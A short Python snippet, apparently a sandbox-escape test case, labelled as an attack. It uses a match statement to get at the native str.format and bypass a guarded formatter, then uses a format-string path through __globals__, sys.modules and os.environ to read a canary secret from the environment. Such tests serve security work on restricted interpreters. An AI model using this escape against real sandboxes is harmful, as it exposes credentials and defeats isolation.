# attack: fetch the native bound str.format with a match keyword, bypassing the guarded formatter
import dataclasses
fmt = "{0.__globals__[sys].modules[os].environ[MONTY_CANARY_SECRET]}"
match fmt:
    case object(format=native):
        print(native(dataclasses.fields))
